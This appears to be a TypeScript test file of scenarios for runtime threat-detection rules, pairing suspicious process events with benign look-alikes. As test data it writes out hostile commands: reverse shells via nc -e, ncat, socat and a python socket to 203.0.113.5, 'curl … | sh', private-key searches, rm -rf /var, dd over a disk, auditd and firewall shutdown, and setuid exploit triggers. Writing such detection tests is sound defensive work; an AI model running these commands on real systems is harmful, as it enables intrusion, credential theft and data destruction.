import { about, type RuleScenarios } from './scenario.ts';
import { type Part, type Run, Stage } from './stage.ts';

const on = (programs: string[], part: Part = {}): Stage => new Stage(programs, part);
const login: Part = { terminal: true, loginuid: 1000 };
const inside: Part = { container: true };
const memfd: Run = { flags: 'EXE_FROM_MEMFD' };

export const processScenarios: readonly RuleScenarios[] = [
  about(
    'Interactive shell in a container',
    [
      [
        'docker exec -it',
        () =>
          on(['/usr/bin/containerd-shim-runc-v2', '/usr/sbin/runc'], inside).runs('/usr/bin/bash', [], {
            terminal: true,
          }),
      ],
      [
        'docker run -it',
        () => on(['/usr/bin/containerd-shim'], inside).runs('/bin/ash', [], { terminal: true, vpid: 1 }),
      ],
      [
        'docker run -t with a command for a shell',
        () => on(['/usr/sbin/runc'], inside).runs('/bin/sh', ['-c', 'id'], { terminal: true, vpid: 1 }),
      ],
      [
        'python makes a terminal',
        () => on(['/usr/bin/python3.11'], inside).runs('/bin/sh', ['-i'], { terminal: true }),
      ],
    ],
    [
      ['shell of a script without terminal', () => on(['/usr/sbin/runc'], inside).runs('/bin/sh', ['-c', 'date'])],
      [
        'make calls sh in a terminal',
        () => on(['/bin/bash', '/usr/bin/make'], inside).runs('/bin/sh', ['-c', 'cc x.c'], { terminal: true }),
      ],
      ['shell on a host', () => on(['/usr/sbin/sshd'], login).runs('/usr/bin/bash', ['-l'], {})],
    ],
  ),
  about(
    'Shell started by a server',
    [
      ['nginx runs sh', () => on(['/usr/sbin/nginx']).runs('/usr/bin/dash', ['-c', 'id'], { uid: 33, comm: 'sh' })],
      [
        'postgres in a container',
        () => on(['/usr/lib/postgresql/16/bin/postgres'], inside).runs('/bin/sh', ['-c', 'curl 203.0.113.5 | sh']),
      ],
      [
        'piped logs with more behind',
        () => on(['/usr/sbin/apache2']).runs('/bin/sh', ['-c', '/usr/bin/rotatelogs x 5; id']),
      ],
    ],
    [
      ['nginx starts its own worker', () => on(['/usr/sbin/nginx']).runs('/usr/sbin/nginx', ['-g', 'daemon off;'])],
      [
        'apache pipes its log',
        () => on(['/usr/sbin/apache2']).runs('/bin/sh', ['-c', '/usr/bin/rotatelogs /var/log/apache2/a 86400']),
      ],
      [
        'postgres archives its journal',
        () => on(['/usr/lib/postgresql/16/bin/postgres']).runs('/bin/sh', ['-c', 'cp pg_wal/0001 /backup/0001']),
      ],
      ['cron runs sh', () => on(['/usr/sbin/cron']).runs('/bin/sh', ['-c', 'run-parts /etc/cron.hourly'])],
    ],
  ),
  about(
    'Program started by a database',
    [
      [
        'redis runs a module that calls curl',
        () => on(['/usr/bin/redis-server']).runs('/usr/bin/curl', ['http://203.0.113.5/x']),
      ],
    ],
    [
      ['mysqld_safe starts mysqld', () => on(['/usr/bin/mysqld_safe']).runs('/usr/sbin/mysqld', [])],
      ['bash starts curl', () => on(['/usr/bin/bash'], login).runs('/usr/bin/curl', ['http://203.0.113.5/x'])],
    ],
  ),
  about(
    'Terminal shell of a service account',
    [
      [
        'www-data with a terminal',
        () => on(['/usr/bin/python3.11'], { uid: 33 }).runs('/bin/bash', [], { terminal: true }),
      ],
    ],
    [
      [
        'sudo -u www-data bash',
        () =>
          on(['/usr/bin/bash', '/usr/bin/sudo'], { loginuid: 1000 }).runs('/bin/bash', [], { uid: 33, terminal: true }),
      ],
      [
        'www-data without terminal',
        () => on(['/usr/bin/python3.11'], { uid: 33 }).runs('/bin/sh', ['-c', 'convert a b']),
      ],
    ],
  ),
  about(
    'Shell with its input on a network connection',
    [
      [
        'python gives a shell its socket',
        () =>
          on(['/usr/bin/python3.11', '/usr/bin/python3.11'], { args: ['x.py'] })
            .connects('203.0.113.5', 4242)
            .duplicatesTo(0)
            .runs('/bin/sh', ['-i']),
        'Input or output redirected to a network connection',
      ],
    ],
    [
      [
        'shell with input from a file',
        () =>
          on(['/usr/bin/python3.11'], { args: ['x.py'] })
            .reads('/tmp/x')
            .duplicatesTo(0)
            .runs('/bin/sh', ['-s']),
      ],
    ],
  ),
  about(
    'Netcat runs a program for its peer',
    [
      [
        'nc -e',
        () =>
          on(['/usr/bin/bash']).runs('/usr/bin/nc.traditional', ['-e', '/bin/sh', '203.0.113.5', '4242'], {
            comm: 'nc',
          }),
      ],
      ['flags in one word, in a container', () => on(['/bin/sh'], inside).runs('/bin/nc', ['-lvpe', '/bin/sh'])],
      [
        'ncat --sh-exec',
        () => on(['/usr/bin/bash']).runs('/usr/bin/ncat', ['--sh-exec', 'bash', '203.0.113.5', '4242']),
      ],
      ['socat', () => on(['/usr/bin/bash']).runs('/usr/bin/socat', ['TCP:203.0.113.5:4242', 'EXEC:/bin/sh'])],
    ],
    [
      ['nc tests a port', () => on(['/usr/bin/bash']).runs('/usr/bin/nc', ['-z', 'localhost', '22'])],
      ['socat relays', () => on(['/usr/bin/bash']).runs('/usr/bin/socat', ['TCP-LISTEN:80,fork', 'TCP:10.0.0.5:8080'])],
    ],
  ),
  about(
    'Program run from memory only',
    [
      ['memfd', () => on(['/usr/bin/bash']).runs('memfd:x (deleted)', [], { ...memfd, comm: '3' })],
      [
        'under the name of a runtime',
        () => on(['/usr/bin/bash']).runs('memfd:runc_cloned:/proc/self/exe (deleted)', [], { ...memfd, comm: 'runc' }),
      ],
    ],
    [
      [
        'runc seals itself',
        () =>
          on(['/usr/bin/containerd-shim-runc-v2']).runs('memfd:runc_cloned:/proc/self/exe (deleted)', ['init'], {
            ...memfd,
            comm: 'runc',
          }),
      ],
      ['a program from disk', () => on(['/usr/bin/bash']).runs('/usr/bin/id')],
    ],
  ),
  about(
    'Program run from shared memory',
    [
      ['binary in /dev/shm', () => on(['/usr/bin/bash']).runs('/dev/shm/x')],
      ['script in /dev/shm', () => on(['/usr/bin/bash']).runs('/usr/bin/bash', ['/dev/shm/x.sh'])],
    ],
    [['data in /dev/shm', () => on(['/usr/bin/bash']).runs('/usr/bin/cat', ['/dev/shm/data']).reads('/dev/shm/data')]],
  ),
  about(
    'Program run by a server from a temporary directory',
    [
      [
        'php drops and runs',
        () => on(['/usr/sbin/php-fpm', '/usr/bin/perl'], { args: ['x.pl'] }).runs('/tmp/x', [], { uid: 33 }),
      ],
    ],
    [['compiler test of a user', () => on(['/usr/bin/bash', '/usr/bin/make']).runs('/tmp/conftest', [], login)]],
  ),
  about(
    'Library forced into a program from a writable directory',
    [
      [
        'LD_PRELOAD in /tmp',
        () => on(['/usr/bin/bash']).runs('/usr/bin/id', [], { env: ['A=b', 'LD_PRELOAD=/tmp/x.so'] }),
      ],
    ],
    [
      [
        'LD_PRELOAD of an allocator',
        () => on(['/usr/bin/bash']).runs('/usr/bin/id', [], { env: ['LD_PRELOAD=/usr/lib/libjemalloc.so.2'] }),
      ],
      ['no such variable', () => on(['/usr/bin/bash']).runs('/usr/bin/id', [], { env: ['PRELOAD=/tmp/x.so'] })],
    ],
  ),
  about(
    'Exploit attempt on a setuid program',
    [
      ['pkexec without argv', () => on(['/home/alice/x'], login).runs('/usr/bin/pkexec', [], { exe: '' })],
      [
        'sudoedit -s with a backslash',
        () => on(['/usr/bin/bash'], login).runs('/usr/bin/sudo', ['-s', '\\'], { comm: 'sudoedit' }),
      ],
      [
        'tunables for su',
        () =>
          on(['/home/alice/x'], login).runs('/usr/bin/su', ['--help'], {
            env: ['GLIBC_TUNABLES=glibc.malloc.mxfast=glibc.malloc.mxfast=A'],
          }),
      ],
    ],
    [
      ['pkexec by hand', () => on(['/usr/bin/bash'], login).runs('/usr/bin/pkexec', [], { exe: 'pkexec' })],
      [
        'tunables for an ordinary program',
        () => on(['/usr/bin/bash'], login).runs('/usr/bin/id', [], { env: ['GLIBC_TUNABLES=glibc.malloc.check=3'] }),
      ],
    ],
  ),
  about(
    'Crypto miner started',
    [
      ['by name', () => on(['/usr/bin/bash']).runs('/opt/xmrig')],
      ['by arguments', () => on(['/usr/bin/bash']).runs('/opt/kworker', ['-o', 'stratum+tcp://pool.example:3333'])],
    ],
    [
      [
        'somebody reads about it',
        () => on(['/usr/bin/bash'], login).runs('/usr/bin/grep', ['stratum+tcp://', 'notes.txt']),
      ],
    ],
  ),
  about(
    'User management program started',
    [
      ['useradd by hand', () => on(['/usr/bin/bash'], login).runs('/usr/sbin/useradd', ['-o', '-u', '0', 'x'])],
      ['passwd in a container', () => on(['/bin/sh'], inside).runs('/usr/bin/passwd', ['root'])],
    ],
    [
      [
        'adduser of a package',
        () =>
          on(['/usr/bin/apt-get', '/usr/bin/dpkg', '/usr/bin/dash']).runs('/usr/sbin/useradd', ['--system', 'redis']),
      ],
      ['status of a password', () => on(['/usr/bin/bash'], login).runs('/usr/bin/passwd', ['-S', 'alice'])],
    ],
  ),
  about(
    'Root taken without sudo',
    [
      [
        'a user program becomes root',
        () => on(['/home/alice/x'], { ...login, uid: 1000 }).does('SYSCALL_SETUID_X', { uid: 0 }),
      ],
      ['an attempt', () => on(['/tmp/x'], { uid: 33 }).does('SYSCALL_SETUID_X', { res: -1, uid: 0 })],
    ],
    [
      [
        'sudo',
        () => on(['/usr/bin/bash', '/usr/bin/sudo'], { ...login, uid: 1000 }).does('SYSCALL_SETUID_X', { uid: 0 }),
      ],
      ['a server gives up root', () => on(['/usr/sbin/nginx']).does('SYSCALL_SETUID_X', { uid: 33 })],
      ['a program under sudo', () => on(['/usr/bin/sudo', '/opt/app/x'], login).does('SYSCALL_SETUID_X', { uid: 0 })],
    ],
  ),
  about(
    'Setuid or setgid bit set',
    [
      ['chmod u+s', () => on(['/usr/bin/bash', '/usr/bin/chmod']).chmods('/tmp/sh', 'S_ISUID|S_IXUSR|S_IRUSR|S_IWUSR')],
      [
        'chmod g+s of a program in a container',
        () => on(['/bin/chmod'], inside).chmods('/opt/x', 'S_ISGID|S_IXGRP|S_IRUSR'),
      ],
    ],
    [
      ['chmod 755', () => on(['/usr/bin/bash', '/usr/bin/chmod']).chmods('/tmp/x', 'S_IXUSR|S_IRUSR|S_IWUSR')],
      [
        'dpkg unpacks su',
        () => on(['/usr/bin/apt-get', '/usr/bin/dpkg']).chmods('/usr/bin/su.dpkg-new', 'S_ISUID|S_IXUSR'),
      ],
      ['git shares a directory', () => on(['/usr/bin/git']).chmods('/srv/git/x', 'S_ISGID|S_IXGRP|S_IRUSR')],
      [
        'refused',
        () =>
          on(['/usr/bin/chmod'], { uid: 1000 }).does('SYSCALL_CHMOD_X', { res: -1, filename: '/x', mode: 'S_ISUID' }),
      ],
    ],
  ),
  about(
    'Private keys or passwords searched',
    [
      ['find id_rsa', () => on(['/usr/bin/bash']).runs('/usr/bin/find', ['/', '-name', 'id_rsa'])],
      [
        'grep for keys in a container',
        () => on(['/bin/sh'], inside).runs('/bin/grep', ['-r', 'BEGIN RSA PRIVATE KEY', '/']),
      ],
      ['grep for passwords', () => on(['/usr/bin/bash']).runs('/usr/bin/grep', ['-ri', 'password', '/var/www'])],
    ],
    [
      ['find C files', () => on(['/usr/bin/bash']).runs('/usr/bin/find', ['.', '-name', '*.c'])],
      ['grep root in passwd', () => on(['/usr/bin/bash']).runs('/usr/bin/grep', ['^root', '/etc/passwd'])],
    ],
  ),
  about(
    'Bulk removal of data',
    [
      ['shred', () => on(['/usr/bin/bash']).runs('/usr/bin/shred', ['-u', '/srv/db'])],
      ['rm -rf of a top directory', () => on(['/usr/bin/bash'], inside).runs('/bin/rm', ['-rf', '/var'])],
      ['dd over a disk', () => on(['/usr/bin/bash']).runs('/usr/bin/dd', ['if=/dev/zero', 'of=/dev/sda'])],
    ],
    [
      ['rm -rf of a build', () => on(['/usr/bin/make']).runs('/usr/bin/rm', ['-rf', '/home/alice/project/build'])],
      ['dd copies a file', () => on(['/usr/bin/bash']).runs('/usr/bin/dd', ['if=a.img', 'of=b.img'])],
    ],
  ),
  about(
    'Protection switched off',
    [
      ['systemctl stop auditd', () => on(['/usr/bin/bash'], login).runs('/usr/bin/systemctl', ['stop', 'auditd'])],
      [
        'firewall emptied',
        () => on(['/usr/bin/bash'], login).runs('/usr/sbin/xtables-nft-multi', ['-F'], { comm: 'iptables' }),
      ],
    ],
    [
      [
        'systemctl stop of a web server',
        () => on(['/usr/bin/bash'], login).runs('/usr/bin/systemctl', ['stop', 'nginx']),
      ],
      [
        'docker adds a firewall rule',
        () => on(['/usr/bin/dockerd']).runs('/usr/sbin/xtables-nft-multi', ['-A', 'DOCKER'], { comm: 'iptables' }),
      ],
    ],
  ),
  about(
    'Code injected into another process',
    [
      ['ptrace attach', () => on(['/opt/tool/inject']).does('SYSCALL_PTRACE_X', { request: 'PTRACE_ATTACH', pid: 1 })],
      ['memory written through proc', () => on(['/opt/tool/inject'], inside).changes('/proc/12/mem')],
      ['process_vm_writev', () => on(['/opt/tool/inject']).does('SYSCALL_PROCESS_VM_WRITEV_X', { res: 8, pid: 1 })],
    ],
    [
      [
        'gdb',
        () =>
          on(['/usr/bin/bash', '/usr/bin/gdb'], login).does('SYSCALL_PTRACE_X', { request: 'PTRACE_ATTACH', pid: 1 }),
      ],
      [
        'refused',
        () => on(['/opt/tool/inject']).does('SYSCALL_PTRACE_X', { res: -1, request: 'PTRACE_ATTACH', pid: 1 }),
      ],
      ['memory read', () => on(['/opt/tool/peek']).reads('/proc/12/mem')],
    ],
  ),
  about(
    'Process guards itself against debuggers',
    [
      [
        'traceme',
        () => on(['/usr/bin/bash', '/opt/tool/x']).does('SYSCALL_PTRACE_X', { request: 'PTRACE_TRACEME', pid: 0 }),
      ],
    ],
    [
      [
        'child of strace',
        () => on(['/usr/bin/strace', '/usr/bin/id']).does('SYSCALL_PTRACE_X', { request: 'PTRACE_TRACEME', pid: 0 }),
      ],
    ],
  ),
];
